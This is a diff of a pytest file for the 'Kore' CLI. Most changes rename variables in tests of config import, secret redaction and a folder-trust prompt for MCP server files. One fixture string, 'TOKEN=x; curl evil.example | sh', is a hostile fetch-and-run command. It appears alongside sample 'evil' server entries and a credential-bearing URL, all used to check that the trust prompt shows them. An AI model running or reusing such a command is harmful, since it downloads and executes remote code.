@@ -17,27 +17,29 @@ def home(tmp_path: Path) -> Path:
 
 
 def test_import_takes_over_for_good_and_says_what_it_left(home: Path) -> None:
-    done = kore("config", "import", home=home)
-    assert done.returncode == 0, done.stderr
-    assert "imported: model_list from" in done.stdout
-    assert "projects: no equivalent in Kore" in done.stdout
-    assert {line.count("not imported") for line in done.stdout.splitlines()} == {0, 1}
-    assert "canary" not in done.stdout + done.stderr
+    result = kore("config", "import", home=home)
+    assert result.returncode == 0, result.stderr
+    assert "imported: model_list from" in result.stdout
+    assert "projects: no equivalent in Kore" in result.stdout
+    assert {line.count("not imported") for line in result.stdout.splitlines()} == {0, 1}
+    assert "canary" not in result.stdout + result.stderr
     config = json.loads((home / "config.json").read_text())
     assert [item["model_name"] for item in config["model_list"]] == ["Main", "Fast"]
     assert "canary" not in (home / "config.json").read_text()
     secrets = json.loads((home / "secrets.json").read_text())
     assert sorted(secrets.values()) == ["sk-canary-a", "sk-canary-b"]
     (home.parent / ".kode.json").unlink()
-    shown = json.loads(kore("config", "show", home=home).stdout)
-    assert shown["profiles"]["quick"] == "Fast"
+    output = json.loads(kore("config", "show", home=home).stdout)
+    assert output["profiles"]["quick"] == "Fast"
     assert kore("config", "validate", home=home).returncode == 0
 
 
 def test_import_overwrites_nothing(home: Path) -> None:
     kore("config", "set", "profiles.default", "openai/mine", home=home)
-    done = kore("config", "import", "--json", home=home)
-    assert any("profiles.default: already set" in line for line in json.loads(done.stdout)["left"])
+    result = kore("config", "import", "--json", home=home)
+    assert any(
+        "profiles.default: already set" in line for line in json.loads(result.stdout)["left"]
+    )
     config = json.loads((home / "config.json").read_text())
     assert config["profiles"]["default"] == "openai/mine"
     again = json.loads(kore("config", "import", "--json", home=home).stdout)
@@ -50,10 +52,10 @@ def test_a_change_in_their_file_leaves_all_the_rest_of_it(home: Path) -> None:
         kore("config", "set", "--file", file, "profiles.quick", "Main", home=home).returncode == 0
     )
     assert file.read_text() == REAL.replace('"quick": "glm-4/air"', '"quick": "claude-sonnet-4"')
-    done = kore(
+    result = kore(
         "config", "set", "--file", file, "modelProfiles.Main.apiKey", "sk-canary-c", home=home
     )
-    assert "canary" not in done.stdout + done.stderr
+    assert "canary" not in result.stdout + result.stderr
     assert read(file.read_text()).value["modelProfiles"][0]["apiKey"] == "sk-canary-c"
     kore("config", "set", "--file", file, "proxy", "http://p", home=home)
     assert read(file.read_text()).value["proxy"] == "http://p"
@@ -66,23 +68,25 @@ def test_a_change_in_their_file_leaves_all_the_rest_of_it(home: Path) -> None:
 def test_the_shape_of_the_design_is_written_too(tmp_path: Path) -> None:
     file = tmp_path / ".kode.json"
     file.write_text(json.dumps(DESIGN, indent=2))
-    done = kore("config", "set", "--file", file, "agent.model", "near", home=tmp_path / "h")
-    assert done.returncode == 0, done.stderr
+    result = kore("config", "set", "--file", file, "agent.model", "near", home=tmp_path / "h")
+    assert result.returncode == 0, result.stderr
     assert json.loads(file.read_text()) == {**DESIGN, "defaultModel": "near"}
 
 
 @pytest.mark.parametrize(
-    ("key", "value", "said"),
+    ("key", "value", "expected"),
     [
         ("telegram.token", "x", "cannot store telegram.token"),
         ("agent.model", "nobody", "no model named 'nobody' there; available: Main, Fast, Off"),
     ],
 )
-def test_what_has_no_place_there_is_refused(home: Path, key: str, value: str, said: str) -> None:
+def test_what_has_no_place_there_is_refused(
+    home: Path, key: str, value: str, expected: str
+) -> None:
     file = home.parent / ".kode.json"
-    done = kore("config", "set", "--file", file, key, value, home=home)
-    assert done.returncode == 2
-    assert said in done.stderr
+    result = kore("config", "set", "--file", file, key, value, home=home)
+    assert result.returncode == 2
+    assert expected in result.stderr
     assert file.read_text() == REAL
 
 
@@ -91,11 +95,11 @@ async def test_what_is_changed_while_somebody_reads_it_is_not_trusted(tmp_path: 
     work.mkdir()
     file = work / ".mcp.json"
     file.write_text('{"mcpServers": {"good": {"command": "true"}}}')
-    async with kore_there(home, "trust", str(work)) as talk:
-        await talk.see("Type yes:")
+    async with kore_there(home, "trust", str(work)) as terminal:
+        await terminal.see("Type yes:")
         file.write_text('{"mcpServers": {"evil": {"command": "sh"}}}')
-        talk.type("yes\r")
-        await talk.see("version is not trusted")
+        terminal.type("yes\r")
+        await terminal.see("version is not trusted")
     assert not is_trusted(file, home)
 
 
@@ -103,10 +107,10 @@ def test_trust_shows_what_it_is_about_and_wants_a_yes(tmp_path: Path) -> None:
     work, home = tmp_path / "work", tmp_path / "h"
     work.mkdir()
     (work / ".kode.json").write_text(REAL)
-    done = kore("trust", work, home=home)
-    assert done.returncode == 1
-    assert "claude-sonnet-4" in done.stderr
-    assert "canary" not in done.stderr
+    result = kore("trust", work, home=home)
+    assert result.returncode == 1
+    assert "claude-sonnet-4" in result.stderr
+    assert "canary" not in result.stderr
     assert kore("trust", work, "--yes", home=home).returncode == 0
     assert str(work / ".kode.json") in (home / "trust.json").read_text()
     assert kore("trust", work, "--revoke", home=home).returncode == 0
@@ -124,8 +128,8 @@ def test_trust_hides_nothing_of_what_would_run(tmp_path: Path) -> None:
         "url": "http://user:evil@host/",
     }
     (work / ".mcp.json").write_text(json.dumps({"mcpServers": {"a": server}}))
-    shown = kore("trust", work, home=home).stderr
-    assert "**" not in shown
+    output = kore("trust", work, home=home).stderr
+    assert "**" not in output
     for text in (
         "TOKEN=x; curl evil.example | sh",
         "--token",
@@ -133,9 +137,9 @@ def test_trust_hides_nothing_of_what_would_run(tmp_path: Path) -> None:
         "./run.sh",
         "user:evil",
     ):
-        assert text in shown
-    assert "y\\u{202e}" in shown
-    assert '"abcd… (12)"' in shown
+        assert text in output
+    assert "y\\u{202e}" in output
+    assert '"abcd… (12)"' in output
 
 
 def test_a_file_that_is_too_large_is_not_trusted_nor_read_whole(tmp_path: Path) -> None:
@@ -147,9 +151,9 @@ def test_a_file_that_is_too_large_is_not_trusted_nor_read_whole(tmp_path: Path) 
     with file.open("r+b") as huge:
         huge.truncate(1 << 38)  # larger than memory, without blocks on the disk
     assert not is_trusted(file, home)
-    done = kore("trust", work, "--yes", home=home)
-    assert done.returncode == 1
-    assert "cannot be read, or is too large" in done.stderr
+    result = kore("trust", work, "--yes", home=home)
+    assert result.returncode == 1
+    assert "cannot be read, or is too large" in result.stderr
 
 
 def test_the_configuration_of_kore_itself_is_not_brought_by_the_folder_around_it(
@@ -158,6 +162,6 @@ def test_the_configuration_of_kore_itself_is_not_brought_by_the_folder_around_it
     home = tmp_path / ".kore"
     home.mkdir()
     (home / "config.json").write_text("{}")
-    done = kore("trust", tmp_path, "--yes", home=home)
-    assert done.returncode == 1
-    assert "Kore's own folder" in done.stderr
+    result = kore("trust", tmp_path, "--yes", home=home)
+    assert result.returncode == 1
+    assert "Kore's own folder" in result.stderr
